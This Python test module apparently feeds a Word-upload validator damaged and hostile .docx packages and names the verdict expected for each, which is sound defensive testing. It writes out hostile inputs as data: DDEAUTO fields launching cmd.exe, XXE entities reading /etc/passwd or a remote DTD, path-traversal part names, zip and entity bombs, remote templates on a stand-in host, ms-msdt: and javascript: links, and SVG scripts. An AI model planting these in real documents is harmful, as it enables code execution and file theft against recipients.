"""Damaged packages, and Word files that hold something active."""

import struct
import zipfile

from tests.hostile.office_parts import (
    ACTIVE,
    BOMB,
    DAMAGED,
    GOOD,
    MEGABYTE,
    coded,
    document,
    entities,
    held,
    linked,
    nested_field,
    other_rels,
    word,
)
from tests.hostile.packages import (
    CENTRAL,
    END,
    LOCAL,
    TEXT,
    S,
    W,
    docx,
    endless_elements,
    field,
    flipped,
    nested,
    overlapping,
    patched,
    relations,
    types,
    word_parts,
    zipped,
)

PACKAGES = {
    "no content types": ("a.docx", lambda: word(types=None), DAMAGED),
    "version 9.9 needed": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 6, b"\x63\0"), (LOCAL, 4, b"\x63\0")),
        DAMAGED,
    ),
    "cut after 100 bytes": ("a.docx", lambda: GOOD[:100], ("damaged", "kind_refused")),
    "cut in the middle": ("a.docx", lambda: GOOD[: len(GOOD) // 2], DAMAGED),
    "cut in the directory": ("a.docx", lambda: GOOD[: GOOD.index(CENTRAL) + 60], DAMAGED),
    "last byte missing": ("a.docx", lambda: GOOD[:-1], DAMAGED),
    "one bit flipped": ("a.docx", lambda: flipped(GOOD), DAMAGED),
    "checksum of all parts wrong": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 16, b"abcd")),
        DAMAGED,
    ),
    "declares less than it holds": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 24, struct.pack("<I", 9))),
        DAMAGED,
    ),
    "declares four gigabytes": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 24, b"\xfe\xff\xff\xff")),
        BOMB,
    ),
    "declares to be packed to nothing": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 20, b"\0\0\0\0")),
        DAMAGED,
    ),
    "every part has a password": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 8, b"\1\0"), (LOCAL, 6, b"\1\0")),
        "locked",
    ),
    "unknown way of packing": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 10, b"\x63\0"), (LOCAL, 8, b"\x63\0")),
        DAMAGED,
    ),
    "packed with LZMA": ("a.docx", lambda: zipped(word_parts(), zipfile.ZIP_LZMA), None),
    "packed with bzip2": ("a.docx", lambda: zipped(word_parts(), zipfile.ZIP_BZIP2), None),
    "LZMA that asks for four gigabytes": (
        "a.docx",
        lambda: patched(
            zipped(word_parts(), zipfile.ZIP_LZMA), (b"\x09\x04\x05\0]", 5, b"\xff\xff\xff\xff")
        ),
        None,
    ),
    "a part twice": (
        "a.docx",
        lambda: patched(
            docx(parts={"word/documenT.xmk": "<a/>"}),
            (b"word/documenT.xmk", 0, b"word/document.xml"),
        ),
        DAMAGED,
    ),
    "a part twice in another case": (
        "a.docx",
        lambda: docx(parts={"WORD/Document.xml": "<a/>"}),
        DAMAGED,
    ),
    "a part outside of the folder": (
        "a.docx",
        lambda: docx(parts={"../../etc/passwd": "x"}),
        DAMAGED,
    ),
    "a part outside, Windows' way": (
        "a.docx",
        lambda: docx(parts={"..\\..\\boot.ini": "x"}),
        DAMAGED,
    ),
    "names that are no UTF-8": (
        "a.docx",
        lambda: patched(docx(parts={"wörd/é.xml": "<a/>"}), (b"w\xc3\xb6rd", 1, b"\xff\xfe")),
        None,
    ),
    "days that no calendar has": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 12, b"\xff" * 4), (LOCAL, 10, b"\xff" * 4)),
        None,
    ),
    "offsets beyond the end": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 42, b"\xff\xff\xff\x7f")),
        DAMAGED,
    ),
    "directory far away": (
        "a.docx",
        lambda: patched(GOOD, (END, 16, b"\xff\xff\xff\x7f")),
        DAMAGED,
    ),
    "directory of 65,535 parts": (
        "a.docx",
        lambda: patched(GOOD, (END, 8, b"\xff\xff\xff\xff")),
        None,
    ),
    "entries that share one content": ("a.docx", overlapping, BOMB),
    "two thousand parts": (
        "a.docx",
        lambda: docx(parts={f"word/p{at}.xml": "<a/>" for at in range(2001)}),
        BOMB,
    ),
    "unpacks to 60 MB": ("a.docx", lambda: docx(parts={"word/x.xml": b"0" * 60 * MEGABYTE}), BOMB),
    "unpacks a thousandfold": (
        "a.docx",
        lambda: docx(parts={"word/x.xml": b" " * 5 * MEGABYTE}),
        BOMB,
    ),
    "a zip in a zip in a zip": (
        "a.docx",
        lambda: docx(parts={"word/x.zip": zipped({"y.zip": zipped({"z": b"0" * MEGABYTE})})}),
        ACTIVE,
    ),
    "twelve million elements": ("a.docx", endless_elements, BOMB),
    "a hundred thousand levels": (
        "a.docx",
        lambda: document("<a>" * 100_000 + "</a>" * 100_000),
        BOMB,
    ),
    "a million attributes": (
        "a.docx",
        lambda: document("<a " + " ".join(f'a{at}=""' for at in range(1_000_000)) + "/>"),
        None,
    ),
    "no relations": ("a.docx", lambda: word(rels=None), DAMAGED),
    "relations that are no XML": ("a.docx", lambda: word(rels="<Relationships"), DAMAGED),
    "two main documents": (
        "a.docx",
        lambda: word(
            rels=relations(
                ("officeDocument", "word/document.xml"), ("officeDocument", "word/b.xml")
            )
        ),
        DAMAGED,
    ),
    "main document absent": (
        "a.docx",
        lambda: word(rels=relations(("officeDocument", "word/none.xml"))),
        DAMAGED,
    ),
    "empty document": ("a.docx", lambda: word(document=b""), DAMAGED),
    "document cut short": ("a.docx", lambda: document("<w><w:body>"), DAMAGED),
    "document that is no XML": ("a.docx", lambda: word(document=b"\0\1\2\3"), DAMAGED),
    "NUL in the XML": ("a.docx", lambda: document("<a>\0</a>"), DAMAGED),
    "bad UTF-8": ("a.docx", lambda: word(document=b"<a>\xff\xfe\xfa</a>"), DAMAGED),
    "unknown encoding": (
        "a.docx",
        lambda: document('<?xml version="1.0" encoding="nonsense"?><a/>'),
        DAMAGED,
    ),
    "another encoding than it says": (
        "a.docx",
        lambda: document('<?xml version="1.0" encoding="UTF-8"?><a>é</a>', "utf-16"),
        None,
    ),
    "billion laughs": (
        "a.docx",
        lambda: entities('<!ENTITY b "bbbbbbbb"><!ENTITY a "&b;&b;&b;">'),
        DAMAGED,
    ),
    "quadratic entities": ("a.docx", lambda: entities(f'<!ENTITY a "{"b" * 50_000}">'), DAMAGED),
    "entity from a file": (
        "a.docx",
        lambda: entities('<!ENTITY a SYSTEM "file:///etc/passwd">'),
        DAMAGED,
    ),
    "entity from elsewhere": (
        "a.docx",
        lambda: entities('<!ENTITY % p SYSTEM "http://vi.du/x.dtd"> %p;'),
        DAMAGED,
    ),
    "content types with a document type": (
        "a.docx",
        lambda: word(types='<!DOCTYPE a [<!ENTITY b "c">]><Types/>'),
        DAMAGED,
    ),
}
ACTIVE_WORD = {
    "macros": lambda: held(
        "vbaProject", "word/vbaProject.bin", "application/vnd.ms-office.vbaProject"
    ),
    "macros under another name": lambda: held("vbaProject", "word/anh.png", "image/png"),
    "macros, declared by their ending": lambda: docx(
        more_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        parts={"word/x.bin": b"x"},
    ),
    "type of a document with macros": lambda: docx(
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml"
    ),
    "the same in UTF-16": lambda: word(
        types=types(
            "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
        ).encode("utf-16")
    ),
    "embedded object": lambda: held("oleObject", "word/embeddings/o.bin", f"{W[:-17]}.oleObject"),
    "embedded workbook": lambda: held("package", "word/embeddings/b.xlsx", f"{S}.sheet"),
    "ActiveX": lambda: held(
        "control", "word/activeX/a.xml", "application/vnd.ms-office.activeX+xml", "<a/>"
    ),
    "object in the text": lambda: docx(f'{TEXT}<w:object><o:OLEObject r:id="rId9"/></w:object>'),
    "web page to unfold": lambda: held("aFChunk", "word/a.mht", "message/rfc822"),
    "web page to unfold, in the text": lambda: docx(f'{TEXT}<w:altChunk r:id="rId9"/>'),
    "program as a part": lambda: docx(parts={"word/a.exe": b"MZ"}),
    "part of an unknown kind": lambda: held("image", "word/x.xml", "application/x-shockwave-flash"),
    "relation of an unknown kind": lambda: docx(rels=(("newestThing", "x.xml"),)),
    "DDE": lambda: docx(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
    "DDE in pieces": lambda: docx(field(" D", "DE", "AUTO cmd")),
    "DDE in one element": lambda: docx('<w:p><w:fldSimple w:instr="dde cmd calc"/></w:p>'),
    "DDE without an end": lambda: docx(
        '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r>'
    ),
    "DDE outside of a field": lambda: docx("<w:r><w:instrText>DDEAUTO x</w:instrText></w:r>"),
    "field whose name a field works out": lambda: docx(nested_field()),
    "DDE as text in a field": lambda: coded("<w:t>DDEAUTO cmd</w:t>"),
    "DDE as deleted text in a field": lambda: coded("<w:delText>DDEAUTO cmd</w:delText>"),
    "DDE as a deleted code": lambda: coded("<w:delInstrText>DDEAUTO cmd</w:delInstrText>"),
    "DDE behind a deleted code": lambda: coded(
        "<w:delInstrText>PAGE </w:delInstrText><w:instrText>DDEAUTO cmd</w:instrText>"
    ),
    "DDE behind a text": lambda: coded("<w:t>PAGE </w:t><w:instrText>DDEAUTO cmd</w:instrText>"),
    "DDE half deleted": lambda: coded(
        "<w:instrText>DDE</w:instrText><w:delInstrText>AUTO cmd</w:delInstrText>"
    ),
    "DDE in code and text": lambda: coded("<w:instrText>DDEA</w:instrText><w:t>UTO cmd</w:t>"),
    "deleted DDE outside of a field": lambda: docx(
        "<w:r><w:delInstrText>DDEAUTO x</w:delInstrText></w:r>"
    ),
    "DDE in the result of a field": lambda: docx(
        field(" PAGE ").replace("<w:t>x</w:t>", "<w:instrText>DDEAUTO x</w:instrText>")
    ),
    "link field to a program": lambda: docx(
        field(' HYPERLINK "file:///C:/Windows/System32/calc.exe" ')
    ),
    "link field to a program behind switches": lambda: docx(
        field(r' HYPERLINK \\n \\o "a" \\h"C:\\a.exe" ')
    ),
    "link field that another works out": lambda: docx(
        field(" HYPERLINK ").replace(
            "</w:instrText></w:r>", f"</w:instrText></w:r>{field(' QUOTE a ')}", 1
        )
    ),
    "link field that another works out behind a place": lambda: docx(
        nested(r' HYPERLINK \l "a" ', " QUOTE a ", " ")
    ),
    "link field that another works out beside the place": lambda: docx(
        nested(" HYPERLINK ", " QUOTE a ", r' \l "a" ')
    ),
    "link field that another goes on with": lambda: docx(
        nested(' HYPERLINK "www.', " QUOTE a ", '" ')
    ),
    "text from elsewhere": lambda: docx(field(' INCLUDETEXT "http://vi.du/a" ')),
    "picture from elsewhere by a field": lambda: docx(
        field(' INCLUDEPICTURE "http://vi.du/a.png" ')
    ),
    "linked object": lambda: docx(field(" LINK Excel.Sheet.8 a.xls ")),
    "query of a database": lambda: docx(field(" DATABASE ")),
    "link field to another machine": lambda: docx(field(' HYPERLINK "\\\\may-la\\a.exe" ')),
    "remote template": lambda: other_rels(
        relations(("attachedTemplate", "http://vi.du/a.dotm", "External"))
    ),
    "remote template, single quotes": lambda: other_rels(
        relations(("attachedTemplate", "http://vi.du/a.dotm", "External")).replace('"', "'")
    ),
    "remote template, another part": lambda: other_rels(
        relations(("attachedTemplate", "http://vi.du/a", "External")), "word/_rels/s.xml.rels"
    ),
    "remote template, UTF-16": lambda: other_rels(
        relations(("attachedTemplate", "http://vi.du/a", "External"))
        .replace('"1.0"', '"1.0" encoding="UTF-16"')
        .encode("utf-16")
    ),
    "remote template, mode in capitals": lambda: linked(
        "attachedTemplate", "http://vi.du/a", "EXTERNAL"
    ),
    "remote template, no mode": lambda: docx(rels=(("attachedTemplate", "http://vi.du/a"),)),
    "remote picture": lambda: linked("image", "http://vi.du/a.png"),
    "remote picture, called inside": lambda: docx(rels=(("image", "http://vi.du/a.png"),)),
    "remote picture, another machine": lambda: docx(rels=(("image", "//may-la/a.png"),)),
    "remote object": lambda: linked("oleObject", "http://vi.du/a"),
    "remote frame": lambda: linked("frame", "http://vi.du/a"),
    "remote subdocument": lambda: linked("subDocument", "http://vi.du/a.docx"),
    "picture of an old drawing from elsewhere": lambda: docx(
        '<v:imagedata src="http://vi.du/a.png"/>'
    ),
    "link that is a script": lambda: linked("hyperlink", "javascript:alert(1)"),
    "link that starts a program": lambda: linked("hyperlink", "ms-msdt:/id"),
    "link to a program": lambda: linked("hyperlink", "file:///C:/Windows/System32/calc.exe"),
    "link to a program beside it": lambda: linked(
        "hyperlink", "..\\..\\Windows\\System32\\calc.exe"
    ),
    "link of a drawn shape to a program": lambda: docx(
        '<v:rect href="file:///C:/Windows/System32/calc.exe"/>'
    ),
    "link in a drawing that is text": lambda: held(
        "image", "word/media/a.svg", "image/svg+xml", '<svg><a href="javascript:alert(1)"/></svg>'
    ),
    "link to another machine": lambda: linked("hyperlink", "\\\\may-la\\a"),
    "letters merged from a database": lambda: docx(
        parts={"word/s.xml": "<w><mailMerge><connectString/></mailMerge></w>"}
    ),
    "add-in from elsewhere": lambda: docx(rels=(("webextensiontaskpanes", "../a.xml"),)),
    "buttons of its own": lambda: docx(rels=(("ui/extensibility", "../customUI.xml"),)),
    "script in a drawing": lambda: held(
        "image", "word/media/a.svg", "image/svg+xml", "<svg><script>alert(1)</script></svg>"
    ),
    "event in a drawing": lambda: held(
        "image", "word/media/a.svg", "image/svg+xml", '<svg onload="alert(1)"/>'
    ),
    "drawing that loads another": lambda: held(
        "image", "word/a.svg", "image/svg+xml", '<svg><use href="http://vi.du/#a"/></svg>'
    ),
}
